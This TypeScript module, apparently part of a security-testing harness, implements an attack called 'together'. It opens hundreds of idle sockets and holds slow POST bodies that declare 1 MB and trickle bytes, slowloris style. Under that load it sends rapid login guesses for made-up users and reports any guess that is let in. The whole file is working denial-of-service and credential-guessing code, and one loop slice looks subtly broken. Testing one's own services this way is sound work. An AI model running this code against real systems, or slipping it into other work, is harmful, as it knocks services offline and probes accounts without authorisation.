import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { guesser } from './guesses.ts';
import { lines } from './raw-request.ts';
import type { Attack, Target } from './target.ts';

const connectAtOnce = 200;

async function openSockets({ host, port }: Target, count: number): Promise<Socket[]> {
  const sockets: Socket[] = [];
  while (sockets.length < count) {
    const next = Array.from({ length: Math.min(connectAtOnce, count - sockets.length) }, () => {
      const socket = connect(port, host);
      socket.on('error', () => {});
      // Reads and drops what comes, so that a close is seen.
      socket.resume();
      return socket;
    });
    sockets.push(...next);
    await Promise.all(
      next.map((socket) => new Promise((resolve) => socket.once('connect', resolve).once('close', resolve))),
    );
  }
  return sockets;
}

/** With a key, so that the body is wanted; most of it is sent at once and the rest byte by byte. */
function startBody(socket: Socket, { apiKey, projectHash }: Target): void {
  const bytes = 1_000_000;
  socket.write(
    lines(
      `POST /api/gateway/execute/${projectHash}/api HTTP/1.1`,
      'Host: localhost',
      `X-API-KEY: ${apiKey}`,
      'Content-Type: application/json',
      `Content-Length: ${bytes}`,
    ),
  );
  socket.write(Buffer.alloc(bytes - 1000, ' '));
}

export const together: Attack = {
  name: 'together',
  async run(target, { together: { idleConnections, slowBodies, guessesPerSecond, seconds } }) {
    const idle = await openSockets(target, idleConnections);
    const slow = await openSockets(target, slowBodies);
    for (const socket of slow) startBody(socket, target);
    const { guess } = await guesser(target);
    const verdicts: Promise<unknown>[] = [];
    for (let n = 0; n < guessesPerSecond * seconds; n += 1) {
      verdicts.push(guess(`person${n}@attack.example`, 'a guess').catch((error: unknown) => String(error)));
      for (const socket of slow.slice(n % 50, 20)) if (socket.writable) socket.write(' ');
      await sleep(1000 / guessesPerSecond);
    }
    const answers = await Promise.all(verdicts);
    for (const socket of [...idle, ...slow]) socket.destroy();
    const letIn = answers.filter((verdict) => verdict === 'let in').length;
    return {
      requests: idleConnections + slowBodies + answers.length,
      findings: letIn > 0 ? [`${letIn} guesses for unknown people were let in`] : [],
    };
  },
};
